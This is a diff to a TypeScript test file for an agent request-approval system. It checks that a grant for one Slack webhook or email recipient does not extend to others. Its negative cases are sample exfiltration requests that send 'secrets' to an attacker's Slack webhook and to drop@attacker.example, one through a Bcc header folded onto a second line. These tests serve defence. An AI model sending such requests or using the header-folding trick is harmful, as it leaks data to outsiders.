@@ -232,6 +232,7 @@ t.test('a grant covers the place it was approved for: another repository, channe
   const req = (method: string, url: string, type: string, body: string): RequestDescription =>
     describeRequest({ method, url, headers: [['content-type', type]], body: Buffer.from(body), bodyTruncated: false }, { agent: { id: 'agent', labels: {} } });
   const json = (v: unknown): string => JSON.stringify(v);
+  const mail = (rfc822: string): string => Buffer.from(rfc822).toString('base64url');
   // [approved, covered again, not covered: the same operation somewhere else]
   const cases: Array<[RequestDescription, RequestDescription, RequestDescription[]]> = [
     [
@@ -254,6 +255,21 @@ t.test('a grant covers the place it was approved for: another repository, channe
       req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.1', 'application/json', json({ done: true })),
       req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/todos?id=eq.2', 'application/json', json({ done: true })),
       [req('PATCH', 'https://abcdefghijkl.supabase.co/rest/v1/profiles?id=eq.2', 'application/json', json({ role: 'admin' }))],
+    ],
+    [
+      req('POST', 'https://hooks.slack.com/services/T0TEAM/B0BUILD/abcdefabcdef', 'application/json', json({ text: 'build green' })),
+      req('POST', 'https://hooks.slack.com/services/T0TEAM/B0BUILD/abcdefabcdef', 'application/json', json({ text: 'build red' })),
+      // An incoming webhook of the attacker's own workspace.
+      [req('POST', 'https://hooks.slack.com/services/T9EVIL/B9DROP/123456123456', 'application/json', json({ text: 'secrets' }))],
+    ],
+    [
+      req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: Bob <bob@corp.example>\r\nSubject: build\r\n\r\ngreen') })),
+      req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('Subject: again\r\nto: BOB@corp.example\r\n\r\nred') })),
+      [
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: drop@attacker.example\r\n\r\nsecrets') })),
+        // The approved recipient, and a blind copy folded onto a second line.
+        req('POST', 'https://gmail.googleapis.com/gmail/v1/users/me/messages/send', 'application/json', json({ raw: mail('To: bob@corp.example\r\nBcc:\r\n drop@attacker.example\r\n\r\nsecrets') })),
+      ],
     ],
     [
       req('POST', 'https://abcdefghijkl.supabase.co/rest/v1/rpc/mark_done', 'application/json', json({ id: 1 })),
@@ -295,4 +311,19 @@ t.test('a GraphQL grant covers the nodes it was approved for: a comment on anoth
     d.grants = queue.matchingGrants(d);
     t.match(await engine.decide(d), { action: 'approve', grants: { offered: [], withheld: [{ reason: /the grant is for github:node_ids=I_kwDOinternal1/ }] } }, 'another subject is not');
   }
+});
+
+t.test('a send whose recipients are not in the request gets no grant and is covered by none', async (t) => {
+  const queue = await ApprovalQueue.open(tempDir(t, 'airlock-grants-'), { sweepMs: 0 });
+  t.teardown(() => queue.close());
+  const upload = (): RequestDescription => describeRequest({
+    method: 'POST', url: 'https://gmail.googleapis.com/upload/gmail/v1/users/me/messages/send?uploadType=media',
+    headers: [['content-type', 'message/rfc822']], body: Buffer.from('To: anyone@example.com\r\n\r\nhi'), bodyTruncated: false,
+  }, { agent: { id: 'agent', labels: {} } });
+  const approved = upload();
+  const record = await queue.create(approved, await engine.decide(approved));
+  await t.rejects(queue.approve(record.id, { by: 'test', grantMinutes: 30, grantHigh: true }), /where this request acts is not in it/, 'no grant is offered');
+  const d = upload();
+  d.grants = [{ id: 'g', agent: 'agent', method: 'POST', host: 'gmail.googleapis.com', operation: 'messages.send', risk: 'high', target: 'gmail:user_id=me;recipients=?', expires: '2999-01-01T00:00:00Z' }];
+  t.match(await engine.decide(d), { action: 'approve', grants: { offered: [], withheld: [{ reason: /where the request acts is not in it/ }] } }, 'a grant naming the same unknown recipients is withheld');
 });
